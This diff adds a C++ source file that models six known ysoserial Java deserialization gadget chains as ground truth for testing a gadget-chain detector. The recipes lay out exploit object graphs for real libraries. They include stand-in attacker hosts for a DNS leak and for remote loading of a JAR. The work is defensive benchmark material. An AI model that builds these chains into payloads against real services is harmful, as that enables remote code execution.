@@ -1,0 +1,444 @@
+#include "corpus/ysoserial.hpp"
+
+#include <stdexcept>
+
+#include "corpus/jdk.hpp"
+#include "jir/builder.hpp"
+
+namespace tabby::corpus {
+
+namespace {
+
+using jir::ProgramBuilder;
+using runtime::ObjectSpec;
+using runtime::Ref;
+
+constexpr const char* kTransformer = "org.apache.commons.collections.Transformer";
+constexpr const char* kInvokerTransformer =
+    "org.apache.commons.collections.functors.InvokerTransformer";
+constexpr const char* kChainedTransformer =
+    "org.apache.commons.collections.functors.ChainedTransformer";
+constexpr const char* kConstantTransformer =
+    "org.apache.commons.collections.functors.ConstantTransformer";
+constexpr const char* kLazyMap = "org.apache.commons.collections.map.LazyMap";
+constexpr const char* kTiedMapEntry = "org.apache.commons.collections.keyvalue.TiedMapEntry";
+constexpr const char* kMethodInvokeSink = "java.lang.reflect.Method#invoke/2";
+
+/// The commons-collections functor core shared by CC5 and CC6.
+/// Simplifications vs the real library:
+///  - InvokerTransformer holds the java.lang.reflect.Method directly (the
+///    real one resolves it reflectively from iMethodName — reflection is out
+///    of scope, §V-B);
+///  - ChainedTransformer is unrolled to two elements (JIR has no arithmetic
+///    for the loop counter);
+///  - TiedMapEntry.map is typed LazyMap (statically resolvable; the real
+///    field is java.util.Map).
+void add_commons_collections(ProgramBuilder& pb) {
+  auto transformer = pb.add_interface(kTransformer);
+  transformer.method("transform").param("java.lang.Object").returns("java.lang.Object")
+      .set_abstract();
+
+  auto invoker = pb.add_class(kInvokerTransformer);
+  invoker.implements(kTransformer).serializable();
+  invoker.field("iMethod", "java.lang.reflect.Method");
+  invoker.field("iArgs", "java.lang.Object[]");
+  invoker.method("transform")
+      .param("java.lang.Object")
+      .returns("java.lang.Object")
+      .field_load("mo", "@this", "iMethod")
+      .field_load("ar", "@this", "iArgs")
+      .invoke_virtual("r", "mo", "java.lang.reflect.Method", "invoke", {"@p1", "ar"})
+      .ret("r");
+
+  auto chained = pb.add_class(kChainedTransformer);
+  chained.implements(kTransformer).serializable();
+  chained.field("iTransformers", std::string(kTransformer) + "[]");
+  chained.method("transform")
+      .param("java.lang.Object")
+      .returns("java.lang.Object")
+      .field_load("arr", "@this", "iTransformers")
+      .const_int("c0", 0)
+      .array_load("t0", "arr", "c0")
+      .invoke_interface("r1", "t0", kTransformer, "transform", {"@p1"})
+      .const_int("c1", 1)
+      .array_load("t1", "arr", "c1")
+      .invoke_interface("r2", "t1", kTransformer, "transform", {"r1"})
+      .ret("r2");
+
+  auto constant = pb.add_class(kConstantTransformer);
+  constant.implements(kTransformer).serializable();
+  constant.field("iConstant", "java.lang.Object");
+  constant.method("transform")
+      .param("java.lang.Object")
+      .returns("java.lang.Object")
+      .field_load("v", "@this", "iConstant")
+      .ret("v");
+
+  auto lazymap = pb.add_class(kLazyMap);
+  lazymap.serializable();
+  lazymap.field("factory", kTransformer);
+  lazymap.field("cachedValue", "java.lang.Object");
+  {
+    auto get = lazymap.method("get").param("java.lang.Object").returns("java.lang.Object");
+    get.field_load("cached", "@this", "cachedValue")
+        .const_null("nil")
+        .if_cmp("cached", jir::CmpOp::Ne, "nil", "hit")
+        .field_load("f", "@this", "factory")
+        .invoke_interface("v", "f", kTransformer, "transform", {"@p1"})
+        .ret("v")
+        .mark("hit")
+        .ret("cached");
+  }
+
+  auto tied = pb.add_class(kTiedMapEntry);
+  tied.serializable();
+  tied.field("map", kLazyMap);
+  tied.field("key", "java.lang.Object");
+  tied.method("getValue")
+      .returns("java.lang.Object")
+      .field_load("m", "@this", "map")
+      .field_load("k", "@this", "key")
+      .invoke_virtual("v", "m", kLazyMap, "get", {"k"})
+      .ret("v");
+  tied.method("toString")
+      .returns("java.lang.String")
+      .invoke_virtual("v", "@this", kTiedMapEntry, "getValue", {})
+      .invoke_virtual("s", "v", "java.lang.Object", "toString", {})
+      .ret("s");
+  tied.method("hashCode")
+      .returns("int")
+      .invoke_virtual("v", "@this", kTiedMapEntry, "getValue", {})
+      .invoke_virtual("h", "v", "java.lang.Object", "hashCode", {})
+      .ret("h");
+}
+
+/// Recipe core shared by CC5/CC6: LazyMap{factory=ChainedTransformer
+/// {[ConstantTransformer, InvokerTransformer]}} under a TiedMapEntry.
+void add_cc_recipe_core(runtime::ObjectGraphSpec& recipe) {
+  recipe.objects["tied"] =
+      ObjectSpec{kTiedMapEntry, {{"map", Ref{"lazymap"}}, {"key", std::string("pwn-key")}}, {}};
+  recipe.objects["lazymap"] = ObjectSpec{kLazyMap, {{"factory", Ref{"chained"}}}, {}};
+  recipe.objects["chained"] =
+      ObjectSpec{kChainedTransformer, {{"iTransformers", Ref{"transformers"}}}, {}};
+  recipe.objects["transformers"] =
+      ObjectSpec{std::string(kTransformer) + "[]", {}, {Ref{"constant"}, Ref{"invoker"}}};
+  recipe.objects["constant"] =
+      ObjectSpec{kConstantTransformer, {{"iConstant", std::string("target-object")}}, {}};
+  recipe.objects["invoker"] = ObjectSpec{
+      kInvokerTransformer, {{"iMethod", Ref{"method"}}, {"iArgs", Ref{"args"}}}, {}};
+  recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
+  recipe.objects["args"] =
+      ObjectSpec{"java.lang.Object[]", {}, {std::string("invoke-arg")}};
+}
+
+YsoserialModel build_urldns() {
+  ProgramBuilder pb;
+  auto url = pb.add_class("java.net.URL");
+  url.serializable();
+  url.field("host", "java.lang.String");
+  url.field("handler", "java.net.URLStreamHandler");
+  url.method("hashCode")
+      .returns("int")
+      .field_load("hd", "@this", "handler")
+      .invoke_virtual("h", "hd", "java.net.URLStreamHandler", "hashCode", {"@this"})
+      .ret("h");
+  auto handler = pb.add_class("java.net.URLStreamHandler");
+  handler.method("hashCode")
+      .param("java.net.URL")
+      .returns("int")
+      .invoke_virtual("addr", "@this", "java.net.URLStreamHandler", "getHostAddress", {"@p1"})
+      .const_int("h", 0)
+      .ret("h");
+  handler.method("getHostAddress")
+      .param("java.net.URL")
+      .returns("java.net.InetAddress")
+      .field_load("host", "@p1", "host")
+      .invoke_static("a", "java.net.InetAddress", "getByName", {"host"})
+      .ret("a");
+
+  YsoserialModel model;
+  model.name = "URLDNS";
+  model.jar.meta.name = "urldns";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "URLDNS";
+  model.truth.source_signature = "java.util.HashMap#readObject/1";
+  model.truth.sink_signature = "java.net.InetAddress#getByName/1";
+  model.truth.recipe.objects["map"] =
+      ObjectSpec{"java.util.HashMap", {{"key", Ref{"url"}}}, {}};
+  model.truth.recipe.objects["url"] = ObjectSpec{
+      "java.net.URL",
+      {{"host", std::string("leak.attacker.example")}, {"handler", Ref{"h"}}}, {}};
+  model.truth.recipe.objects["h"] = ObjectSpec{"java.net.URLStreamHandler", {}, {}};
+  model.truth.recipe.root = "map";
+  model.expected_chain = {"java.util.HashMap#readObject/1",
+                          "java.util.HashMap#hash/1",
+                          "java.lang.Object#hashCode/0",
+                          "java.net.URL#hashCode/0",
+                          "java.net.URLStreamHandler#hashCode/1",
+                          "java.net.URLStreamHandler#getHostAddress/1",
+                          "java.net.InetAddress#getByName/1"};
+  return model;
+}
+
+YsoserialModel build_cc5() {
+  ProgramBuilder pb;
+  add_commons_collections(pb);
+  auto bave = pb.add_class("javax.management.BadAttributeValueExpException");
+  bave.serializable();
+  bave.field("val", "java.lang.Object");
+  bave.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("valObj", "@this", "val")
+      .invoke_virtual("s", "valObj", "java.lang.Object", "toString", {})
+      .ret();
+
+  YsoserialModel model;
+  model.name = "CommonsCollections5";
+  model.jar.meta.name = "commons-collections-3.1";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "CommonsCollections5";
+  model.truth.source_signature = "javax.management.BadAttributeValueExpException#readObject/1";
+  model.truth.sink_signature = kMethodInvokeSink;
+  model.truth.recipe.objects["root"] = ObjectSpec{
+      "javax.management.BadAttributeValueExpException", {{"val", Ref{"tied"}}}, {}};
+  add_cc_recipe_core(model.truth.recipe);
+  model.truth.recipe.root = "root";
+  model.expected_chain = {"javax.management.BadAttributeValueExpException#readObject/1",
+                          "java.lang.Object#toString/0",
+                          std::string(kTiedMapEntry) + "#toString/0",
+                          std::string(kTiedMapEntry) + "#getValue/0",
+                          std::string(kLazyMap) + "#get/1",
+                          std::string(kTransformer) + "#transform/1",
+                          std::string(kInvokerTransformer) + "#transform/1",
+                          kMethodInvokeSink};
+  return model;
+}
+
+YsoserialModel build_cc6() {
+  ProgramBuilder pb;
+  add_commons_collections(pb);
+
+  YsoserialModel model;
+  model.name = "CommonsCollections6";
+  model.jar.meta.name = "commons-collections-3.2.1";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "CommonsCollections6";
+  model.truth.source_signature = "java.util.HashMap#readObject/1";
+  model.truth.sink_signature = kMethodInvokeSink;
+  model.truth.recipe.objects["map"] =
+      ObjectSpec{"java.util.HashMap", {{"key", Ref{"tied"}}}, {}};
+  add_cc_recipe_core(model.truth.recipe);
+  model.truth.recipe.root = "map";
+  model.expected_chain = {"java.util.HashMap#readObject/1",
+                          "java.util.HashMap#hash/1",
+                          "java.lang.Object#hashCode/0",
+                          std::string(kTiedMapEntry) + "#hashCode/0",
+                          std::string(kTiedMapEntry) + "#getValue/0",
+                          std::string(kLazyMap) + "#get/1",
+                          std::string(kTransformer) + "#transform/1",
+                          std::string(kInvokerTransformer) + "#transform/1",
+                          kMethodInvokeSink};
+  return model;
+}
+
+YsoserialModel build_cb1() {
+  ProgramBuilder pb;
+  // BeanComparator holds the getter Method directly (the real library walks
+  // PropertyUtils/Introspector reflectively).
+  auto comparator = pb.add_class("org.apache.commons.beanutils.BeanComparator");
+  comparator.implements("java.util.Comparator").serializable();
+  comparator.field("getter", "java.lang.reflect.Method");
+  comparator.field("gargs", "java.lang.Object[]");
+  comparator.method("compare")
+      .param("java.lang.Object")
+      .param("java.lang.Object")
+      .returns("int")
+      .field_load("mo", "@this", "getter")
+      .field_load("ar", "@this", "gargs")
+      .invoke_virtual("v1", "mo", "java.lang.reflect.Method", "invoke", {"@p1", "ar"})
+      .const_int("c", 0)
+      .ret("c");
+
+  auto pq = pb.add_class("java.util.PriorityQueue");
+  pq.serializable();
+  pq.field("comparator", "java.util.Comparator");
+  pq.field("e0", "java.lang.Object");
+  pq.field("e1", "java.lang.Object");
+  pq.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .invoke_virtual("", "@this", "java.util.PriorityQueue", "heapify", {})
+      .ret();
+  pq.method("heapify")
+      .returns("void")
+      .invoke_virtual("", "@this", "java.util.PriorityQueue", "siftDown", {})
+      .ret();
+  pq.method("siftDown")
+      .returns("void")
+      .field_load("c", "@this", "comparator")
+      .field_load("a", "@this", "e0")
+      .field_load("b", "@this", "e1")
+      .invoke_interface("r", "c", "java.util.Comparator", "compare", {"a", "b"})
+      .ret();
+
+  YsoserialModel model;
+  model.name = "CommonsBeanutils1";
+  model.jar.meta.name = "commons-beanutils-1.9";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "CommonsBeanutils1";
+  model.truth.source_signature = "java.util.PriorityQueue#readObject/1";
+  model.truth.sink_signature = kMethodInvokeSink;
+  model.truth.recipe.objects["pq"] = ObjectSpec{
+      "java.util.PriorityQueue",
+      {{"comparator", Ref{"cmp"}}, {"e0", std::string("bean-a")}, {"e1", std::string("bean-b")}},
+      {}};
+  model.truth.recipe.objects["cmp"] = ObjectSpec{
+      "org.apache.commons.beanutils.BeanComparator",
+      {{"getter", Ref{"method"}}, {"gargs", Ref{"args"}}}, {}};
+  model.truth.recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
+  model.truth.recipe.objects["args"] = ObjectSpec{"java.lang.Object[]", {}, {}};
+  model.truth.recipe.root = "pq";
+  model.expected_chain = {"java.util.PriorityQueue#readObject/1",
+                          "java.util.PriorityQueue#heapify/0",
+                          "java.util.PriorityQueue#siftDown/0",
+                          "java.util.Comparator#compare/2",
+                          "org.apache.commons.beanutils.BeanComparator#compare/2",
+                          kMethodInvokeSink};
+  return model;
+}
+
+YsoserialModel build_c3p0() {
+  ProgramBuilder pb;
+  auto indirect = pb.add_interface("com.mchange.v2.ser.IndirectlySerialized");
+  indirect.method("getObject").returns("java.lang.Object").set_abstract();
+
+  auto reference = pb.add_class("com.mchange.v2.naming.ReferenceSerialized");
+  reference.implements("com.mchange.v2.ser.IndirectlySerialized").serializable();
+  reference.field("classFactoryLocation", "java.lang.String");
+  reference.field("loader", "java.lang.ClassLoader");
+  reference.method("getObject")
+      .returns("java.lang.Object")
+      .field_load("ld", "@this", "loader")
+      .field_load("loc", "@this", "classFactoryLocation")
+      .invoke_static("o", "com.mchange.v2.naming.ReferenceableUtils", "referenceToObject",
+                     {"ld", "loc"})
+      .ret("o");
+
+  auto utils = pb.add_class("com.mchange.v2.naming.ReferenceableUtils");
+  utils.method("referenceToObject")
+      .set_static()
+      .param("java.lang.ClassLoader")
+      .param("java.lang.String")
+      .returns("java.lang.Object")
+      .invoke_virtual("cls", "@p1", "java.lang.ClassLoader", "loadClass", {"@p2"})
+      .ret("cls");
+
+  auto pool = pb.add_class("com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase");
+  pool.serializable();
+  pool.field("connectionPoolDataSource", "com.mchange.v2.ser.IndirectlySerialized");
+  pool.method("readObject")
+      .param("java.io.ObjectInputStream")
+      .returns("void")
+      .field_load("s", "@this", "connectionPoolDataSource")
+      .invoke_interface("o", "s", "com.mchange.v2.ser.IndirectlySerialized", "getObject", {})
+      .ret();
+
+  YsoserialModel model;
+  model.name = "C3P0";
+  model.jar.meta.name = "c3p0-0.9.5";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "C3P0";
+  model.truth.source_signature = "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase#readObject/1";
+  model.truth.sink_signature = "java.lang.ClassLoader#loadClass/1";
+  model.truth.recipe.objects["pool"] = ObjectSpec{
+      "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
+      {{"connectionPoolDataSource", Ref{"ref"}}}, {}};
+  model.truth.recipe.objects["ref"] = ObjectSpec{
+      "com.mchange.v2.naming.ReferenceSerialized",
+      {{"classFactoryLocation", std::string("http://attacker.example/factory.jar")},
+       {"loader", Ref{"loader"}}},
+      {}};
+  model.truth.recipe.objects["loader"] = ObjectSpec{"java.lang.ClassLoader", {}, {}};
+  model.truth.recipe.root = "pool";
+  model.expected_chain = {"com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase#readObject/1",
+                          "com.mchange.v2.ser.IndirectlySerialized#getObject/0",
+                          "com.mchange.v2.naming.ReferenceSerialized#getObject/0",
+                          "com.mchange.v2.naming.ReferenceableUtils#referenceToObject/2",
+                          "java.lang.ClassLoader#loadClass/1"};
+  return model;
+}
+
+YsoserialModel build_rome() {
+  ProgramBuilder pb;
+  auto equals_bean = pb.add_class("com.rometools.rome.feed.impl.EqualsBean");
+  equals_bean.serializable();
+  equals_bean.field("obj", "java.lang.Object");
+  equals_bean.field("beanMethod", "java.lang.reflect.Method");
+  equals_bean.field("margs", "java.lang.Object[]");
+  equals_bean.method("beanHashCode")
+      .returns("int")
+      .field_load("mo", "@this", "beanMethod")
+      .field_load("o", "@this", "obj")
+      .field_load("ar", "@this", "margs")
+      .invoke_virtual("r", "mo", "java.lang.reflect.Method", "invoke", {"o", "ar"})
+      .const_int("h", 0)
+      .ret("h");
+
+  auto object_bean = pb.add_class("com.rometools.rome.feed.impl.ObjectBean");
+  object_bean.serializable();
+  object_bean.field("equalsBean", "com.rometools.rome.feed.impl.EqualsBean");
+  object_bean.method("hashCode")
+      .returns("int")
+      .field_load("eb", "@this", "equalsBean")
+      .invoke_virtual("h", "eb", "com.rometools.rome.feed.impl.EqualsBean", "beanHashCode", {})
+      .ret("h");
+
+  YsoserialModel model;
+  model.name = "ROME";
+  model.jar.meta.name = "rome-1.0";
+  model.jar.classes = pb.build().classes();
+  model.truth.id = "ROME";
+  model.truth.source_signature = "java.util.HashMap#readObject/1";
+  model.truth.sink_signature = kMethodInvokeSink;
+  model.truth.recipe.objects["map"] =
+      ObjectSpec{"java.util.HashMap", {{"key", Ref{"bean"}}}, {}};
+  model.truth.recipe.objects["bean"] = ObjectSpec{
+      "com.rometools.rome.feed.impl.ObjectBean", {{"equalsBean", Ref{"eq"}}}, {}};
+  model.truth.recipe.objects["eq"] = ObjectSpec{
+      "com.rometools.rome.feed.impl.EqualsBean",
+      {{"obj", std::string("templates-impl")}, {"beanMethod", Ref{"method"}},
+       {"margs", Ref{"args"}}},
+      {}};
+  model.truth.recipe.objects["method"] = ObjectSpec{"java.lang.reflect.Method", {}, {}};
+  model.truth.recipe.objects["args"] = ObjectSpec{"java.lang.Object[]", {}, {}};
+  model.truth.recipe.root = "map";
+  model.expected_chain = {"java.util.HashMap#readObject/1",
+                          "java.util.HashMap#hash/1",
+                          "java.lang.Object#hashCode/0",
+                          "com.rometools.rome.feed.impl.ObjectBean#hashCode/0",
+                          "com.rometools.rome.feed.impl.EqualsBean#beanHashCode/0",
+                          kMethodInvokeSink};
+  return model;
+}
+
+}  // namespace
+
+const std::vector<std::string>& ysoserial_names() {
+  static const std::vector<std::string> names = {
+      "URLDNS", "CommonsCollections5", "CommonsCollections6",
+      "CommonsBeanutils1", "C3P0", "ROME"};
+  return names;
+}
+
+YsoserialModel build_ysoserial(const std::string& name) {
+  if (name == "URLDNS") return build_urldns();
+  if (name == "CommonsCollections5") return build_cc5();
+  if (name == "CommonsCollections6") return build_cc6();
+  if (name == "CommonsBeanutils1") return build_cb1();
+  if (name == "C3P0") return build_c3p0();
+  if (name == "ROME") return build_rome();
+  throw std::invalid_argument("unknown ysoserial model: " + name);
+}
+
+}  // namespace tabby::corpus
